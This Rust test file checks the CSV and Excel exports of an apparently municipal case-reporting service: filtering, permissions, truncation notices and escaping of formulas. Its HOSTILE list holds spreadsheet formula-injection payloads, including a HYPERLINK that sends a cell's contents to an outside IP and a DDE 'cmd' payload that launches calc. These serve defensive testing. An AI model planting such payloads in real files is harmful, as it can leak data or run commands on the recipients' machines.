//! Lists as files: what Excel is given, what it must never compute, and what is said where a file is not all there is.

use calamine::{Data, Reader, Xlsx};
use domain::role::Role;
use serde_json::{Value, json};

use crate::http::{Served, report, served};
use crate::roles::Sender;

/// Texts that a spreadsheet would compute.
const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"http://203.0.113.1/?\"&A2,\"点我\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
];

fn described(description: &str) -> Value {
    let mut report = report("530102");
    report["report_case"]["report"]["description"] = json!(description);
    report
}

impl Served {
    async fn downloaded(&self, path: &str) -> Vec<u8> {
        let (url, bearer) = (self.url(path), format!("Bearer {}", self.token));
        let read = move || {
            let mut answer = ureq::get(url).header("authorization", bearer).call().unwrap();
            answer.body_mut().with_config().limit(64 << 20).read_to_vec().unwrap()
        };
        tokio::task::spawn_blocking(read).await.unwrap()
    }

    async fn all_reported(&self, reports: Vec<Value>) {
        for reports in reports.chunks(1_000) {
            let commands: Vec<Value> = reports.iter().map(|command| json!({ "command": command })).collect();
            let reply = self.post("/api/v1/commands", &json!({ "commands": commands })).await;
            assert_eq!(reply.status, 200, "{}", reply.text);
            assert!(!reply.text.contains("refused\":{"), "{}", &reply.text[..500]);
        }
    }
}

/// The rows of a CSV, its head first.
fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("the mark by which Excel reads UTF-8");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text);
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn column(rows: &[Vec<String>], head: &str) -> Vec<String> {
    let at =
        rows[0].iter().position(|name| name == head).unwrap_or_else(|| panic!("{head} in {:?}", rows[0]));
    rows[1..].iter().map(|row| row[at].clone()).collect()
}

/// Void and refused reports are no closed cases: a sum over the column agrees with the hall's own count.
#[tokio::test(flavor = "multi_thread")]
async fn what_ended_otherwise_is_not_said_to_be_closed() {
    let hall = served().await;
    hall.all_reported(vec![report("530102"), report("530102")]).await;
    let numbers = hall.get("/api/v1/cases?open=true").await.json();
    let id = |at: usize| numbers["items"][at]["id"].clone();
    let (void, refused) = (id(0), id(1));
    for command in [
        json!({ "void_case": { "case": void, "note": "误报" } }),
        json!({ "refuse_case": { "case": refused, "note": "不属本级" } }),
    ] {
        let answer = hall.post("/api/v1/commands", &json!({ "command": command })).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
    }
    let found = rows(&hall.downloaded("/api/v1/cases.csv?open=false").await);
    let mut stages = column(&found, "环节");
    stages.sort();
    assert_eq!(stages, ["不予受理", "作废"]);
}

/// Method: every hostile text as a description, one as an address; no cell of the CSV begins as a formula does, and each text is there
/// whole behind its apostrophe. In the workbook each is a text, and none a formula.
#[tokio::test(flavor = "multi_thread")]
async fn what_people_wrote_is_text_in_every_file() {
    let hall = served().await;
    let mut reports: Vec<Value> = HOSTILE.iter().map(|text| described(text)).collect();
    reports[8]["report_case"]["report"]["address"] = json!("=1+1");
    hall.all_reported(reports).await;
    let found = rows(&hall.downloaded("/api/v1/cases.csv?open=true").await);
    assert_eq!(found.len(), 1 + HOSTILE.len());
    let mut written = column(&found, "问题描述");
    written.reverse();
    let expected: Vec<String> = HOSTILE.iter().map(|text| format!("'{text}")).collect();
    assert_eq!(written, expected);
    assert_eq!(column(&found, "地址")[0], "'=1+1");
    for cell in found.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', ' ', '＝']), "{cell:?}");
    }
    assert_eq!(column(&found, "小类")[0], "暴露垃圾");
    assert!(column(&found, "区域")[0].ends_with(" / 五华区"), "{:?}", column(&found, "区域"));
    let bytes = hall.downloaded("/api/v1/cases.xlsx?open=true").await;
    let mut book = Xlsx::new(std::io::Cursor::new(&bytes[..])).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    let texts: Vec<String> = range
        .used_cells()
        .filter_map(|(_, _, cell)| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        })
        .collect();
    for text in HOSTILE {
        // A workbook's own text keeps neither blanks at its ends nor the kind of a line's end.
        assert!(texts.iter().any(|cell| cell.trim() == text.trim()), "{text:?} in {texts:?}");
    }
    assert_eq!(book.worksheet_formula(&sheet).unwrap().used_cells().count(), 0);
    hall.running.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_has_the_cases_of_the_list_and_of_nobody_elses() {
    let hall = served().await;
    hall.all_reported(vec![report("530102"), report("530103"), report("530102")]).await;
    for (query, count) in [("", 3), ("?area=530102", 2), ("?stage=dispatch", 0), ("?sort=due&open=true", 3)] {
        let listed =
            hall.get(&format!("/api/v1/cases{query}")).await.json()["items"].as_array().unwrap().len();
        let found = rows(&hall.downloaded(&format!("/api/v1/cases.csv{query}")).await);
        assert_eq!((listed, found.len() - 1), (count, count), "{query}");
    }
    let number = hall.get("/api/v1/cases").await.json()["items"][0]["number"].as_str().unwrap().to_owned();
    let one = rows(&hall.downloaded(&format!("/api/v1/cases.csv?number={number}")).await);
    assert_eq!(column(&one, "案件编号"), [number]);
    let street = Sender::seeing(&hall, "li", &[Role::Viewer], &["530103"]).await;
    let reply = street.ask(&hall, "GET", "/api/v1/cases.csv").await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!(reply.text.lines().count(), 2, "{}", reply.text);
    let headers = &reply.headers;
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"cases-"));
    assert_eq!(
        (&headers["content-type"], &headers["cache-control"]),
        (&"text/csv; charset=utf-8".parse().unwrap(), &"no-store".parse().unwrap())
    );
    for paged in ["limit=5", "cursor=x", "count=true"] {
        let reply = hall.get(&format!("/api/v1/cases.csv?{paged}")).await;
        assert_eq!(reply.status, 400, "{paged}: {}", reply.text);
        assert!(reply.text.contains("no pages"), "{}", reply.text);
    }
    hall.running.stop().await.unwrap();
}

/// Method: one case more than a workbook has rows. The CSV, which takes more, has them all, over many pages.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_is_not_all_says_so_in_its_last_row() {
    let hall = served().await;
    let most = server::http::export::XLSX_ROWS_MAX;
    hall.all_reported(vec![report("530102"); most + 1]).await;
    let found = rows(&hall.downloaded("/api/v1/cases.csv").await);
    assert_eq!(found.len(), 1 + most + 1);
    assert!(found[1..].iter().all(|row| row.len() == found[0].len()), "no row of words");
    let mut numbers = column(&found, "案件编号");
    numbers.sort();
    numbers.dedup();
    assert_eq!(numbers.len(), most + 1, "each once");
    let bytes = hall.downloaded("/api/v1/cases.xlsx").await;
    let mut book = Xlsx::new(std::io::Cursor::new(&bytes[..])).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let (height, _) = range.get_size();
    assert_eq!(height, 1 + most + 1);
    let last = range.get_value((most as u32 + 1, 0)).unwrap().to_string();
    assert!(last.starts_with("未完"), "{last}");
    hall.running.stop().await.unwrap();
}
